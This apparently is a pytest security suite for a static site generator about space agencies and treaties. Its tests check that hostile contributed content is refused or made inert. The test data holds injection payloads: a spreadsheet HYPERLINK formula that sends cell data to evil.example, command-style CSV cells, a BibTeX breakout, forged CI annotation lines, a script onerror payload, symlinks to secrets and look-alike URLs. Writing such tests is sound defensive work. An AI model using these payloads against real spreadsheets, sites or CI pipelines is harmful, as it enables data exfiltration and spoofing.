"""A careless or hostile pull request cannot damage the site or its data: each class of attack
gets a located message and exit 1, or output that a parser of its format reads back exactly."""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import subprocess
import sys

import pytest

from conftest import REPO
from spaceatlas.read.content_files import Project
from spaceatlas.site.plan import build_site

AGENCY = (
    "title: Test Agency\nkind: national-agency\ncountry: US\nsummary: A body used in tests.\n"
    "sources: [example-source]\n"
)
TREATY = """title: Test Treaty
kind: treaty
summary: A treaty used in tests.
sources: [example-source]
dates:
  adopted: 1970-01-01
  opened_for_signature: 1970-06-01
"""


def validate(run_cli, project):
    code, out, err = run_cli("--root", project, "validate")
    assert "Traceback" not in out + err
    return code, out, err


# 1, 2: addresses have one owner


def test_a_former_slug_cannot_replace_an_index_page(project, write, run_cli):
    path = project / "content/treaties/rescue-agreement.yaml"
    path.write_text(path.read_text() + "redirect_from: [index]\n")
    code, _, err = validate(run_cli, project)
    assert code == 1
    assert re.search(
        r"content/treaties/rescue-agreement\.yaml:\d+:\d+: redirect_from\[0\]: 'index' cannot "
        r"redirect: the address /treaties/ already belongs to the Treaties and instruments index page",
        err,
    )


def test_an_entry_cannot_take_the_slug_index(project, write, run_cli):
    write("content/treaties/index.yaml", TREATY)
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/treaties/index.yaml:1:1: (document): the address /treaties/ already belongs" in err
    code, _, err = run_cli("--root", project, "new", "treaty", "index")
    assert code == 2 and "index page" in err


# 3: numbers beyond any sensible size


def test_an_integer_beyond_64_bits_is_a_located_error(project, write, run_cli):
    write(
        "content/treaties/big.yaml",
        TREATY + "parties:\n  as_of: 2020\n  source: example-source\n"
        "  stated_totals:\n    - as_of: 2020\n      source: example-source\n      parties: 100000000000000000000000\n",
    )
    code, _, err = validate(run_cli, project)
    assert (
        code == 1 and "content/treaties/big.yaml:14:16: parties.stated_totals[0].parties: must be at most 1,000" in err
    )


# 4: control characters, typed or escaped


@pytest.mark.parametrize("escape, code_point", [(r"\x01", "0001"), (r"\0", "0000"), (r"\e", "001B"), (r"\x7f", "007F")])
def test_control_characters_written_as_escapes_are_refused(project, write, run_cli, escape, code_point):
    write(
        "content/agencies/bad.yaml", AGENCY.replace("summary: A body used in tests.", f'summary: "Bad {escape} char"')
    )
    code, _, err = validate(run_cli, project)
    assert code == 1
    assert f"content/agencies/bad.yaml:4:10: summary: control character U+{code_point} in text" in err


# 5: CSV formula injection


def test_csv_cells_that_look_like_formulas_are_inert(project, write):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    write("content/agencies/formula.yaml", AGENCY.replace("title: Test Agency", f"title: '{formula}'"))
    write("seeds/formula-source.yaml", "title: '+cmd|calc'\npublisher: '@SUM(1+1)'\nsummary: '-2+3'\n")
    files = build_site(Project(project)).files
    for name in ("api/v1/agencies.csv", "api/v1/sources.csv"):
        rows = list(csv.reader(io.StringIO(files[name], newline="")))
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    agencies = list(csv.DictReader(io.StringIO(files["api/v1/agencies.csv"], newline="")))
    assert "'" + formula in [row["title"] for row in agencies]


# 6, 9: files are read only as regular files inside the repository


def test_a_symlink_out_of_the_repository_is_refused_without_reading_it(project, run_cli, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("title: TOP SECRET\n")
    (project / "seeds/leak.yaml").symlink_to(secret)
    (project / "content/agencies/notes.yaml").symlink_to(tmp_path / "missing-target")
    code, out, err = validate(run_cli, project)
    assert code == 1
    assert "seeds/leak.yaml:1:1: (file): is a symbolic link; entry files must be regular files" in err
    assert "content/agencies/notes.yaml:1:1: (file): is a symbolic link" in err
    assert "TOP SECRET" not in out + err


def test_a_symlink_loop_in_content_is_a_message(project, run_cli):
    (project / "content/loop").symlink_to(project / "content/loop")
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/loop:1:1: (file): not an entry folder" in err


def test_non_utf8_bytes_in_the_address_record_are_a_message(project, run_cli):
    (project / "content/published-urls.txt").write_bytes(b"/agencies/nasa/\n/caf\xe9/\n")
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/published-urls.txt:2:1: (file): not UTF-8 text" in err


# 7: BibTeX


def test_a_title_cannot_break_out_of_its_bibtex_field(project, write):
    from pybtex.database import parse_string

    title = r"Evil \} , note = {x}} @misc{injected, title={pwned} } {"
    write("content/agencies/bibtex.yaml", AGENCY.replace("title: Test Agency", "title: " + json.dumps(title)))
    page = build_site(Project(project)).files["agencies/bibtex.md"]
    block = page[page.index("<code>") + len("<code>") : page.index("</code>")]
    source = html.unescape(re.sub(r"<[^>]+>", "", block))
    entries = parse_string(source, "bibtex").entries
    assert list(entries) == ["spaceatlas-agency-bibtex"]
    assert "injected" not in entries and "pwned" not in entries["spaceatlas-agency-bibtex"].fields.get("note", "")


# 8: GitHub workflow commands


def test_a_file_name_cannot_forge_an_annotation(project, run_cli):
    name = "x\n::warning file=README.md,line=1::forged\n.yaml"
    (project / "content/agencies" / name).write_text(AGENCY)
    code, out, _ = run_cli("--root", project, "validate", "--format", "github")
    assert code == 1
    commands = [line for line in out.splitlines() if line.startswith("::")]
    assert commands and all(line.startswith("::error file=") for line in commands)
    assert not [line for line in out.splitlines() if line.startswith("::warning")]


# 10: bounded work


def test_errors_are_capped_per_file_and_in_all_and_counted(project, write, run_cli):
    for number in range(12):  # 12 files of 50 wrong items each: 600 problems
        write(f"content/agencies/many{number}.yaml", AGENCY + "aliases: [" + ", ".join(["[1]"] * 50) + "]\n")
    code, _, err = validate(run_cli, project)
    assert code == 1
    located = [line for line in err.splitlines() if re.match(r"content/agencies/many\d+\.yaml:\d+:\d+: ", line)]
    assert len(located) == 200  # in all
    assert len([line for line in located if line.startswith("content/agencies/many0.yaml")]) == 20  # per file
    assert "content/agencies/many0.yaml: 30 more problems not shown" in err
    assert "content/agencies/many9.yaml: 50 more problems not shown" in err  # files in name order
    assert err.rstrip().endswith("600 problems found in content.")


def test_a_hostile_list_is_refused_while_it_is_read(project, write, run_cli):
    write("content/agencies/long.yaml", AGENCY + "aliases: [" + ", ".join(["x"] * 60_000) + "]\n")
    code, _, err = validate(run_cli, project)
    assert code == 1 and re.search(
        r"content/agencies/long\.yaml:6:\d+: aliases: more than 5,000 items in one list", err
    )


def test_a_huge_file_is_refused_before_it_is_read(project):
    path = project / "content/agencies/sparse.yaml"
    with open(path, "wb") as handle:
        handle.truncate(2 * 1024**3)  # 2 GB, sparse: nothing is written to disk
    script = (
        "import re, sys; from spaceatlas.tools.cli import main; code = main(['--root', sys.argv[1], 'validate']);"
        # VmHWM is this process's own peak (ru_maxrss can carry the parent's across fork and exec).
        "print(re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()).group(1)); sys.exit(code)"
    )
    run = subprocess.run(
        [sys.executable, "-c", script, str(project)],
        capture_output=True,
        text=True,
        timeout=120,
        env=dict(os.environ, PYTHONPATH=str(project / "scripts")),
    )
    assert run.returncode == 1 and "sparse.yaml:1:1: (file): file is larger than 256 KiB" in run.stderr
    assert int(run.stdout.split()[-1]) < 200 * 1024  # KiB: nothing like the file was read


# 11: relations between fields

PARTIES = "parties:\n  as_of: 2020\n  source: example-source\n  actions:\n"


@pytest.mark.parametrize(
    "extra, message",
    [
        (
            PARTIES + "    - {party: US, action: signature, date: 1969-01-01}\n",
            "parties.actions[0].date: 1969-01-01 is before the instrument was opened or adopted",
        ),
        (
            "parties:\n  as_of: 1980\n  source: example-source\n"
            "  actions:\n    - {party: US, action: ratification, date: 1990-01-01}\n",
            "is after the list's as_of date (1980)",
        ),
        (
            "parties:\n  as_of: 2020\n  source: example-source\n  stated_totals:\n"
            "    - {as_of: 2020, source: example-source, parties: 0}\n"
            "  actions:\n    - {party: US, action: ratification, date: 1990-01-01}\n",
            "the source states 0, but the actions listed make 1 on 2020",
        ),
        (
            PARTIES + "    - {party: US, action: ratification, date: 1990-01-01}\n"
            "    - {party: US, action: ratification, date: 1990-01-01}\n",
            "the same action is listed twice",
        ),
        ("aliases: [TT, tt]\n", "'tt' is listed twice"),
        (
            PARTIES + "    - {party: US, action: ratification, date: 2999-01-01}\n",
            "2999-01-01 is in the future",
        ),
    ],
)
def test_fields_that_contradict_each_other_are_errors(project, write, run_cli, extra, message):
    write("content/treaties/contradiction.yaml", TREATY + extra)
    code, _, err = validate(run_cli, project)
    assert code == 1 and message in err, err


def test_a_completed_program_cannot_end_in_the_future(project, write, run_cli):
    write(
        "content/programs/future.yaml",
        "title: P\nstatus: completed\nstart: 2001\nend: 2999\ndomains: [science, science]\n"
        "summary: S.\nsources: [example-source, example-source]\n",
    )
    code, _, err = validate(run_cli, project)
    assert code == 1
    assert "end: 2999 is in the future" in err
    assert "domains[1]: 'science' is listed twice" in err and "sources[1]: 'example-source' is listed twice" in err


def test_a_circle_of_parents_is_reported_once(project, write, run_cli):
    write(
        "content/programs/alpha.yaml",
        "title: A\nstatus: active\npart_of: beta\ndomains: [science]\nsummary: S.\nsources: [example-source]\n",
    )
    write(
        "content/programs/beta.yaml",
        "title: B\nstatus: active\npart_of: alpha\ndomains: [science]\nsummary: S.\nsources: [example-source]\n",
    )
    code, _, err = validate(run_cli, project)
    assert code == 1 and err.count("goes round in a circle") == 1


# 12: what is and is not a content file


def test_a_file_in_a_sub_folder_is_reported(project, write, run_cli):
    write("content/treaties/drafts/new.yaml", TREATY)
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/treaties/drafts:1:1: (file): sub-folders are not read" in err


def test_editor_backup_and_swap_files_are_ignored(project, write, run_cli):
    write("content/agencies/nasa.yaml~", "not: [valid")
    write("content/agencies/.nasa.yaml.swp", "\x00\x01binary")
    write("content/agencies/#nasa.yaml#", "junk")
    code, out, err = validate(run_cli, project)
    assert code == 0, err and "content is valid" in out


# --- round 2 (issue 26) ---------------------------------------------------------------------------

# 1: characters that would end a page's front matter, or the feed's XML


@pytest.mark.parametrize(
    "summary, message",
    [
        ('"A \\uFFFE b"', "4:10: summary: Unicode non-character U+FFFE"),
        ('"A \\uFFFF b"', "4:10: summary: Unicode non-character U+FFFF"),
        ('"A \\U0010FFFF b"', "4:10: summary: Unicode non-character U+10FFFF"),
        ('"A \\uFDD0 b"', "4:10: summary: Unicode non-character U+FDD0"),
        ('"A\\L--- b"', "4:10: summary: line or paragraph separator U+2028"),
        ('"A \\P b"', "4:10: summary: line or paragraph separator U+2029"),
        ("'A \ufffe b'", "4:13: (yaml): Unicode non-character U+FFFE, which YAML does not allow"),
    ],
)
def test_characters_that_end_front_matter_or_xml_are_refused(project, write, run_cli, summary, message):
    write("content/agencies/bad.yaml", AGENCY.replace("summary: A body used in tests.", f"summary: {summary}"))
    code, _, err = validate(run_cli, project)
    assert code == 1 and f"content/agencies/bad.yaml:{message}" in err, err


def test_a_front_matter_that_does_not_read_back_stops_the_build():
    from spaceatlas.read.errors import ContentErrors
    from spaceatlas.site.render import front_matter

    assert front_matter({"title": "Plain & <b>"}, "x.yaml").startswith('---\ntitle: "Plain &amp; &lt;b&gt;"\n---')
    payload = "x\ufffe ![x](https://invalid.invalid/a.png){: onerror=alert(1) }"
    with pytest.raises(ContentErrors, match=r"x\.yaml:1:1: \(page\): the page's front matter does not read back"):
        front_matter({"title": payload}, "x.yaml")


# 2: the preview's folder, and what it deletes


def test_a_committed_symlink_for_the_generated_folder_is_refused(project, tmp_path):
    from conftest import mkdocs_build

    canary = project / "content/agencies/nasa.yaml"
    (project / ".cache").mkdir()
    (project / ".cache/generated").symlink_to("../..")
    result = mkdocs_build(project, tmp_path / "site")
    assert result.returncode != 0 and "Traceback" not in result.stderr
    assert "generated_dir '.cache/generated': .cache/generated is a symbolic link" in result.stdout + result.stderr
    assert canary.is_file()
    config = project / "mkdocs.yml"
    config.write_text(config.read_text().replace("generated_dir: .cache/generated", "generated_dir: ../outside"))
    result = mkdocs_build(project, tmp_path / "site")
    assert result.returncode != 0 and "generated_dir '../outside' is not a folder inside the repository" in (
        result.stdout + result.stderr
    )


def test_generated_files_are_never_written_through_a_link_and_only_our_own_are_deleted(tmp_path):
    from spaceatlas.site.generated_folder import MANIFEST, UnsafeFolder, write_files

    out, outside = tmp_path / "generated", tmp_path / "maintainer"
    outside.mkdir()
    (outside / "notes.md").write_text("mine")
    out.mkdir()
    (out / "treaties").symlink_to(outside)
    with pytest.raises(UnsafeFolder, match="is a symbolic link"):
        write_files({"treaties/a.md": "A"}, out)
    assert sorted(p.name for p in outside.iterdir()) == ["notes.md"]
    (out / "treaties").unlink()
    # A manifest committed by a pull request cannot name files outside the folder, or reach through a link.
    (out / "inner").symlink_to(outside)
    (out / MANIFEST).write_text("../maintainer/notes.md\ninner/notes.md\n/etc/hostname\n")
    write_files({"a.md": "A"}, out)
    assert (outside / "notes.md").read_text() == "mine"
    assert (out / MANIFEST).read_text() == "a.md\n"
    # Nor can a manifest committed as a link make the next write overwrite what it points to.
    (out / MANIFEST).unlink()
    (out / MANIFEST).symlink_to(outside / "notes.md")
    write_files({"a.md": "A"}, out)
    assert (outside / "notes.md").read_text() == "mine"
    assert not (out / MANIFEST).is_symlink() and (out / MANIFEST).read_text() == "a.md\n"


# 3: no message can forge a CI command, in either format


def test_a_key_cannot_forge_a_line_of_the_plain_report(project, write, run_cli):
    write("content/agencies/forge.yaml", AGENCY + '"x\\n::error file=README.md,line=1::forged": 1\n')
    code, out, err = validate(run_cli, project)
    assert code == 1 and "forge.yaml" in err
    assert not [line for line in (out + err).splitlines() if line.startswith("::")]


# 4: located messages, never a traceback


SELF = {
    "members": (
        "agencies",
        "title: S\nkind: intergovernmental-organization\nmembers: {as_of: 2020, source: example-source, list: [me]}\n",
    ),
    "successor": ("agencies", "title: S\nkind: national-agency\nsuccessor: me\n"),
    "related": ("treaties", "title: S\nkind: treaty\nrelated: [me]\n"),
    "part_of": ("programs", "title: S\nstatus: active\npart_of: me\ndomains: [science]\n"),
    "see_also": ("concepts", "title: S\nkind: term\nsee_also: [concepts/me]\n"),
}


@pytest.mark.parametrize("field", sorted(SELF))
def test_an_entry_that_refers_to_itself_is_a_located_error(project, write, run_cli, field):
    folder, text = SELF[field]
    write(f"content/{folder}/me.yaml", text + "summary: s.\nsources: [example-source]\n")
    code, _, err = validate(run_cli, project)
    assert code == 1 and re.search(
        rf"content/{folder}/me\.yaml:3:\d+: {field}(\[0\]|\.list\[0\])?: an entry cannot refer to itself", err
    ), err


def test_a_number_of_thousands_of_digits_is_a_located_error(project, write, run_cli):
    write(
        "content/agencies/big.yaml",
        AGENCY
        + "budget: {amount: "
        + "9" * 5000
        + ", currency: USD, year: '2020', as_of: 2020, source: example-source}\n",
    )
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/agencies/big.yaml:6:18: budget.amount: a number of 5,000 digits" in err


def test_a_commit_dated_in_the_year_10000_is_left_out_with_a_warning(project, caplog):
    env = dict(os.environ, GIT_COMMITTER_DATE="@253402300800 +0000", GIT_AUTHOR_DATE="@253402300800 +0000")
    for command in (["init", "-q"], ["add", "-A"], ["-c", "user.name=x", "-c", "user.email=x@x", "commit", "-qm", "x"]):
        subprocess.run(["git", *command], cwd=project, env=env, check=True)
    site = build_site(Project(project))
    assert "agencies/nasa.md" in site.files and site.last_changed.year < 10000
    assert "a commit dated '10000-01-01' is left out of the page dates" in caplog.text


# 5: supply chain


def test_install_files_hold_only_exact_pins():
    import tomllib

    for line in (REPO / "constraints.txt").read_text().splitlines():
        assert (
            not line.strip()
            or line.startswith("#")
            or re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*==[A-Za-z0-9.+!]+", line)
        ), line
    requires = tomllib.loads((REPO / "pyproject.toml").read_text())["build-system"]["requires"]
    assert requires and all(re.fullmatch(r"[A-Za-z0-9._-]+==[A-Za-z0-9.+!]+", item) for item in requires), requires
    owners = (REPO / ".github/CODEOWNERS").read_text()
    for path in ("/templates/", "/scripts/", "/.github/", "/constraints.txt", "/pyproject.toml"):
        assert re.search(rf"^{re.escape(path)}\s+@\S+", owners, re.M), path


# 6: cost bombs


def test_dates_after_today_are_refused_wherever_they_are(project, write, run_cli):
    write(
        "content/agencies/late.yaml",
        AGENCY.replace("kind: national-agency", "kind: intergovernmental-organization")
        + "members: {as_of: '9999', source: example-source, list: [US]}\n",
    )
    code, _, err = validate(run_cli, project)
    assert code == 1 and "content/agencies/late.yaml:6:18: members.as_of: 9999 is in the future" in err


def test_a_year_series_has_a_point_per_change_not_per_year(project, write):
    from spaceatlas.model.status import InstrumentStatus
    from spaceatlas.site.plan import load_atlas

    actions = "".join(
        f"    - {{party: {code}, action: accession, date: '{year:04d}'}}\n" for code, year in (("US", 1), ("FR", 2020))
    )
    write("content/treaties/ancient.yaml", TREATY.split("dates:")[0] + PARTIES.replace("2020", "2026") + actions)
    atlas, _ = load_atlas(Project(project))
    assert InstrumentStatus(atlas.entries["treaty"]["ancient"]).parties_by_year == [(1, 1), (2020, 2), (2026, 2)]


def test_a_country_page_names_a_few_shared_programs_per_partner(project, write):
    for number in range(30):
        write(
            f"content/programs/shared-{number:02d}.yaml",
            f"title: P{number}\nstatus: active\ndomains: [science]\n"
            "summary: s.\nsources: [example-source]\nhost_countries: [US, CA, JP]\n",
        )
    page = build_site(Project(project)).files["countries/us.md"]
    rows = page.split("## Cooperates most with", 1)[1].split("\n## ", 1)[0]
    row = next(line for line in rows.splitlines() if line.startswith("| [Canada]"))
    assert row.count("](/programs/") == 8 and "and 22 more" in row
    assert len(page) < 20_000


# 7: addresses published before a pull request


def test_the_base_branchs_record_of_addresses_is_checked_too(project, run_cli, tmp_path):
    before = tmp_path / "published-before.txt"
    before.write_text("/agencies/nasa/\n/agencies/gone-agency/\n")
    code, _, err = run_cli("--root", project, "validate", "--published-before", before)
    assert code == 1 and f"{before}:2:1: /agencies/gone-agency/: this address was published" in err


# 8: wrong output and spoofing


@pytest.mark.parametrize(
    "file, text, message",
    [
        ("content/agencies/m.yaml", AGENCY + "founded: 1990-00\n", "founded: 1990-00 is not a real calendar date"),
        (
            "content/agencies/m.yaml",
            AGENCY + "founded: 1990-12-00\n",
            "founded: 1990-12-00 is not a real calendar date",
        ),
        (
            "content/agencies/m.yaml",
            AGENCY + "budget: {amount: true, currency: USD, year: '2020', as_of: 2020, source: example-source}\n",
            "budget.amount: expected a whole number; got true",
        ),
        (
            "seeds/s.yaml",
            "title: S\npublisher: P\nsummary: s.\naddress: https://nasa.gov@evil.example/x\n",
            "address: expected a web address",
        ),
        (
            "seeds/s.yaml",
            "title: S\npublisher: P\nsummary: s.\naddress: https://n\u0430sa.gov/x\n",
            "address: expected a web address",
        ),
        (
            "seeds/s.yaml",
            'title: S\npublisher: P\nsummary: s.\naddress: "https://nasa.gov/\\u202ex"\n',
            "got 'https://nasa.gov/\\u202ex'",
        ),
        (
            "seeds/s.yaml",
            'title: S\npublisher: P\nsummary: s.\naddress: "https://na\\u200bsa.gov/x"\n',
            "address: expected a web address",
        ),
        (
            "content/agencies/slug\n.yaml",
            AGENCY,
            "content/agencies/slug\\n.yaml:1:1: (file): file name 'slug\\n' is not a valid slug",
        ),
        (
            "content/agencies/m.yaml",
            AGENCY.replace("national-agency", "intergovernmental-organization")
            + "members: {as_of: 2020, source: example-source, list: [BUMM, MM]}\n",
            "members.list[1]: MM and BUMM are the same state",
        ),
    ],
)
def test_wrong_or_spoofing_values_are_refused(project, write, run_cli, file, text, message):
    write(file, text)
    code, _, err = validate(run_cli, project)
    assert code == 1 and message in err, err


def test_a_circle_of_successors_is_reported(project, write, run_cli):
    write("content/agencies/la.yaml", AGENCY + "successor: lb\n")
    write("content/agencies/lb.yaml", AGENCY + "successor: la\n")
    code, _, err = validate(run_cli, project)
    assert code == 1 and "'successor' goes round in a circle: la → lb → la" in err


def test_quotes_in_a_picture_title_are_escaped_once():
    from spaceatlas.site.markdown_text import escape_markup

    assert escape_markup('Charter "Space"') == "Charter &quot;Space&quot;"
